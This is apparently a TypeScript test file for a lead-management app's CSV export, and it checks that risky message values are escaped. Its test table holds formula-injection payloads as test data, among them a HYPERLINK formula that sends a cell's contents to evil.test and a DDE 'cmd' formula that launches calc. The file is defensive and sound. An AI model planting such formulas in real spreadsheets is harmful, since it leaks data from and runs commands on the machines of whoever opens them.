import { describe, expect, it } from 'vitest';
import { createEmptyLead } from './empty-lead.ts';
import { LEAD_CSV_HEADER, writeLeadCsvRow } from './lead-csv.ts';
import type { Lead } from './lead.ts';

function messageCell(message: string): string {
  const names = LEAD_CSV_HEADER.split(',');
  const lead: Lead = {
    ...createEmptyLead(),
    id: 'l1',
    created_at: 'a',
    updated_at: 'b',
    booking_change: null,
    reservation_change: null,
    message,
  };
  const before = names.slice(0, names.indexOf('"message"')).map(() => '"[^"]*",');
  return new RegExp(`^${before.join('')}("(?:[^"]|"")*")`).exec(writeLeadCsvRow(lead))?.[1] ?? '';
}

describe('a table of leads', () => {
  it('names every field as the spec does', () => {
    expect(LEAD_CSV_HEADER).toMatch(/^"id","created_at","updated_at","name",/);
    for (const name of ['Vehicle Make', 'Rego', 'Ready to sell', 'spam', 'answers', 'consent']) {
      expect(LEAD_CSV_HEADER).toContain(`"${name}"`);
    }
  });

  it('has as many cells in each row', () => {
    const lead: Lead = {
      ...createEmptyLead(),
      id: 'l1',
      created_at: 'a',
      updated_at: 'b',
      booking_change: null,
      reservation_change: null,
      answers: { colour: 'red' },
    };
    expect(writeLeadCsvRow(lead).match(/"(?:[^"]|"")*"/g)).toHaveLength(LEAD_CSV_HEADER.split(',').length);
    expect(writeLeadCsvRow(lead)).toContain('"{""colour"":""red""}"');
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    [' =1', `"' =1"`],
    ['=HYPERLINK("http://evil.test?"&A1,"x")', `"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`],
    [`=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
    ['＝1', `"'＝1"`],
    ['+61412345678-1', `"'+61412345678-1"`],
    ['"a","b"', '"""a"",""b"""'],
    ['a\nb', '"a\nb"'],
    ['+61412345678', '"+61412345678"'],
    ['0412345678', '"0412345678"'],
    ['Is it still there?', '"Is it still there?"'],
  ])('writes %j as %j', (message, cell) => {
    expect(messageCell(message)).toBe(cell);
  });
});
